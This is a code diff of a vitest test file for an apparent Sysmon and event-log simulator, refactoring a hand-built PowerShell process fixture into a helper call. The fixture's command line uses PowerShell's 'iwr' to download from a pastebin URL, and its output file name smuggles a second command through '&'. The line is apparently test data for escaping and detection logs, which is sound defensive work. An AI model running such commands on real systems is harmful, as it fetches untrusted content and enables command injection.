@@ -5,35 +5,22 @@ import { gunzipSync, gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { SimEvent } from './events.ts';
 import { type GenerateOptions, generateBatch } from './generate.ts';
-import { Rng } from './prng.ts';
+import { handMadeProc } from './hand-made.ts';
 import { CWL_EVENTS_PER_ENVELOPE, nxlogLine, SYSMON_SHAPES, winlogbeatLine } from './shapes.ts';
 import { SysmonFormatter } from './sysmon-format.ts';
-import { BINARIES, hashesOf, makeHosts, type Proc, SYSTEM_ACCOUNTS } from './world.ts';
+import { BINARIES, type Proc, SYSTEM_ACCOUNTS } from './world.ts';
 
 type Json = Record<string, unknown>;
 
-/** A user's PowerShell, built by hand: Sysmon's `User` is the user, the event log's is SYSTEM. */
-function powershell(): Proc {
-  const host = makeHosts(new Rng(7))[3]!;
-  const image = BINARIES.powershell.path;
-  return {
-    host,
+/** A user's PowerShell: Sysmon's `User` is the user, the event log's own user is SYSTEM. */
+const powershell = (): Proc =>
+  handMadeProc({
     bin: BINARIES.powershell,
-    image,
+    image: BINARIES.powershell.path,
     nameLower: 'powershell.exe',
     cmd: 'powershell.exe -nop -c "iwr https://pastebin.com/raw/x -OutFile a&b.txt"',
-    cls: 'suspicious',
-    net: undefined,
     account: { ...SYSTEM_ACCOUNTS.system, sysmon: "CORP\\zoë.o'neil", sid: 'S-1-5-21-1-2-3-1104' },
-    integrity: 'Medium',
-    guid: '{0a1b-65e1-0000-0001-000000000700}',
-    pid: 4_242,
-    fpid: '12345678901234',
-    parent: { image: BINARIES.cmd.path, cmd: 'cmd.exe', guid: '{0}', pid: 8, fpid: '99' },
-    startMs: Date.UTC(2024, 2, 1, 10, 0, 0, 123),
-    hashes: hashesOf(image),
-  };
-}
+  });
 
 const create = (): SimEvent => ({ t: 'create', proc: powershell(), time: powershell().startMs });
 
